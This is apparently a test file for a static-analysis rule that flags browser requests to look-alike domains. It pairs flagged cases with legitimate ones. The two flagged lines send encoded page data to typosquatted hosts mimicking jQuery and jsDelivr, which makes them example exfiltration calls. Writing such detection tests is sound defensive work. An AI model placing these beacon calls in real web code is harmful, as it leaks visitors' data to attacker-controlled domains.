// Requests to look-alike hosts, with or without a traceable data path.
var buf = window._b || {};
// ruleid: lookalike-host-contact
navigator.sendBeacon('https://jquery-min.org/css2?family=Inter', btoa(JSON.stringify(buf)));

// ruleid: lookalike-host-contact
fetch('https://cdn.jsdellver.com/npm/x', {method: 'POST', body: JSON.stringify({t: Date.now()})});

// ok: lookalike-host-contact
fetch('https://cdn.jsdelivr.net/npm/x', {method: 'POST', body: JSON.stringify({t: Date.now()})});

// ok: lookalike-host-contact
navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&tid=G-X', '');

// ok: lookalike-host-contact
fetch('/api/cart', {method: 'POST', body: JSON.stringify(buf)});
